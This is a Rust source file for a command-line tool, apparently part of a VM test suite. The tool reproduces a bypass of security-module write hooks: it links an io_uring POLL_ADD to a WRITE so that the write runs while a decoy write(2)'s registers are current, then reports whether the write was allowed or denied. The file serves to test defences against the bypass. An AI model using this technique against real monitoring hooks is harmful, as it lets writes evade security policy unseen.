//! `uring-linked [--fixed] FILE DATA DECOY`: reproduces the attack on an LSM hook that takes the
//! written data from the current syscall's registers. It submits, without waiting, an
//! IORING_OP_POLL_ADD (POLLIN) on an empty pipe linked (IOSQE_IO_LINK) to an IORING_OP_WRITE of
//! DATA to FILE at offset 0, then write(2)s DECOY into the pipe: the poll completes in task work at
//! the exit of that write(2), and the linked WRITE then runs with write(2)'s registers, whose
//! buffer is DECOY. With `--fixed`, FILE is a registered fixed file (IOSQE_FIXED_FILE).
//! Prints the WRITE's result as `ok` or `error ERRNO` (e.g. `error EPERM`) and exits 0 or 1; 2 on
//! bad usage. Both completions (or a 5 s timeout, `error ETIMEDOUT`) are described on stderr.
use std::{
    ffi::CString,
    io,
    os::fd::{AsRawFd, RawFd},
    process::ExitCode,
    time::{Duration, Instant},
};

use io_uring::{opcode, squeue, types, IoUring};
use vm_tools::{errno_name, io_errno_name};

const POLL_TAG: u64 = 1;
const WRITE_TAG: u64 = 2;
const WAIT: Duration = Duration::from_secs(5);

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (fixed, file, data, decoy) = match args.as_slice() {
        [f, file, data, decoy] if f == "--fixed" => (true, file, data, decoy),
        [file, data, decoy] if !file.starts_with("--") => (false, file, data, decoy),
        _ => {
            eprintln!("usage: uring-linked [--fixed] FILE DATA DECOY");
            return ExitCode::from(2);
        }
    };
    match run(fixed, file, data.as_bytes(), decoy.as_bytes()) {
        Ok(res) if res >= 0 => {
            println!("ok");
            ExitCode::SUCCESS
        }
        Ok(res) => {
            println!("error {}", errno_name(-res));
            ExitCode::from(1)
        }
        Err(e) => {
            println!("error {}", io_errno_name(&e));
            eprintln!("uring-linked {file}: {e}");
            ExitCode::from(1)
        }
    }
}

/// Runs the linked submission; returns the WRITE's cqe result (bytes written or -errno).
fn run(fixed: bool, file: &str, data: &[u8], decoy: &[u8]) -> io::Result<i32> {
    let fd = open(file)?;
    let mut pipe = [0 as RawFd; 2];
    // SAFETY: `pipe` has room for the two fds.
    if unsafe { libc::pipe2(pipe.as_mut_ptr(), libc::O_CLOEXEC) } < 0 {
        return Err(io::Error::last_os_error());
    }
    let [pipe_r, pipe_w] = pipe;

    let mut ring = IoUring::new(4)?;
    let poll = opcode::PollAdd::new(types::Fd(pipe_r), libc::POLLIN as u32)
        .build()
        .flags(squeue::Flags::IO_LINK)
        .user_data(POLL_TAG);
    let write = if fixed {
        ring.submitter().register_files(&[fd])?;
        opcode::Write::new(types::Fixed(0), data.as_ptr(), data.len() as u32)
    } else {
        opcode::Write::new(types::Fd(fd), data.as_ptr(), data.len() as u32)
    }
    .offset(0)
    .build()
    .user_data(WRITE_TAG);
    // SAFETY: `data` and the fds outlive the requests: they are waited for below, and on a timeout
    // the ring is dropped (cancelling them) before `data` goes out of scope in main.
    unsafe {
        let mut sq = ring.submission();
        sq.push(&poll).map_err(io::Error::other)?;
        sq.push(&write).map_err(io::Error::other)?;
    }
    let submitted = ring.submit()?;
    eprintln!(
        "uring-linked: submitted {submitted} sqes (POLL_ADD pipe fd {pipe_r} -> WRITE {} fd {fd}{})",
        data.len(),
        if fixed { " as fixed file 0" } else { "" }
    );

    let mut cqes: Vec<(u64, i32)> = ring
        .completion()
        .map(|c| (c.user_data(), c.result()))
        .collect();
    if !cqes.is_empty() {
        eprintln!("uring-linked: completions before the decoy write: {cqes:?}");
    }

    // SAFETY: `decoy` is valid for its length; the pipe is empty, so this does not block.
    let n = unsafe { libc::write(pipe_w, decoy.as_ptr().cast(), decoy.len()) };
    if n < 0 {
        let e = io::Error::last_os_error();
        eprintln!("uring-linked: decoy write(2) to the pipe failed: {e}");
        return Err(e);
    }
    eprintln!("uring-linked: decoy write(2) of {n} bytes to pipe fd {pipe_w} returned");

    let deadline = Instant::now() + WAIT;
    while !cqes.iter().any(|(tag, _)| *tag == WRITE_TAG) {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            break;
        }
        let mut pfd = libc::pollfd {
            fd: ring.as_raw_fd(),
            events: libc::POLLIN,
            revents: 0,
        };
        let ms = left.as_millis().clamp(1, 100) as i32;
        // SAFETY: one valid pollfd; the call returns within `ms`, and its syscall exit runs any
        // pending io_uring task work.
        unsafe { libc::poll(&mut pfd, 1, ms) };
        // io_uring_enter without submissions or waiting: flushes completions to the CQ ring.
        ring.submit()?;
        cqes.extend(ring.completion().map(|c| (c.user_data(), c.result())));
    }

    for (tag, res) in &cqes {
        let what = match *tag {
            POLL_TAG => "POLL_ADD",
            WRITE_TAG => "WRITE",
            _ => "?",
        };
        let meaning = if *res < 0 {
            errno_name(-res)
        } else if *tag == POLL_TAG {
            format!("revents {res:#x}")
        } else {
            format!("{res} bytes")
        };
        eprintln!("uring-linked: {what} cqe res {res} ({meaning})");
    }
    let write_res = cqes.iter().find(|(tag, _)| *tag == WRITE_TAG).map(|c| c.1);
    drop(ring);
    // SAFETY: closing fds this function opened.
    unsafe {
        libc::close(pipe_r);
        libc::close(pipe_w);
        libc::close(fd);
    }
    write_res.ok_or_else(|| {
        eprintln!("uring-linked: no WRITE completion within {WAIT:?}");
        io::Error::from_raw_os_error(libc::ETIMEDOUT)
    })
}

fn open(file: &str) -> io::Result<RawFd> {
    let path = CString::new(file).map_err(io::Error::other)?;
    // SAFETY: `path` is NUL-terminated and lives across the call.
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    Ok(fd)
}
